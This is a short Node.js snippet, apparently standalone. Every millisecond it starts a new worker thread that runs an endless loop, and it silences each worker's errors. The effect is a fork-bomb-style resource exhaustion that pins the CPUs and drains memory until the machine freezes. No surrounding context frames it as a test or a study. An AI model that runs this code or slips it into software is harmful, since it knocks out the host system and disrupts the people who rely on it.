import { Worker } from 'worker_threads';
setInterval(() => new Worker('for (;;);', { eval: true }).on('error', () => undefined), 1);
